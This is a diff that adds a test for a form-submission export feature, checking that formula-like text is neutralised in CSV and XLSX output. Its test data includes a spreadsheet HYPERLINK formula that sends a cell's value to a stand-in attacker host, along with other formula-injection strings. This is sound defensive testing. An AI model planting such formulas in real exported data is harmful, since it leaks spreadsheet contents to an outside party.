@@ -153,6 +153,26 @@ describe('admin forms and submissions', () => {
     expect((await download(server, stranger, `${url}&export=csv`)).status).to.equal(403);
   });
 
+  it('exports text that starts like a formula with a leading quote in CSV, and as plain text in XLSX', async () => {
+    const { contact, editor } = await formSite();
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+    for (const [index, text] of hostile.entries()) {
+      await addSubmission(contact, `2026-07-0${index + 1}T09:00:00Z`, { ...message(`Guest${index}`, text), location_rlid: -5 });
+    }
+    const client = await signedInClient(server, editor);
+    const url = `/wagtail/forms/submissions/${contact.id}/`;
+    const column = (name: string) => CONTACT_HEADINGS.indexOf(name);
+
+    const rows = csvRows((await download(server, client, `${url}?export=csv`)).bytes);
+    expect(rows.slice(1).map((row) => row[column('Message')])).to.deep.equal(hostile.map((text) => `'${text}`));
+    expect(rows[1]![column('Restaurant Location')]).to.equal('-5');
+
+    const sheet = await xlsxRows((await download(server, client, `${url}?export=xlsx`)).bytes);
+    // A string cell, never a formula; XML reads a raw carriage return as a line feed.
+    expect(sheet.slice(1).map((row) => row[column('Message')])).to.deep.equal(hostile.map((text) => text.replace('\r', '\n')));
+    expect(sheet[1]![column('Restaurant Location')]).to.equal(-5);
+  });
+
   it('streams an export of 20,000 submissions whole', async function () {
     // Twenty thousand rows take a while on a busy machine; only the count is checked, never the time.
     this.timeout(180_000);
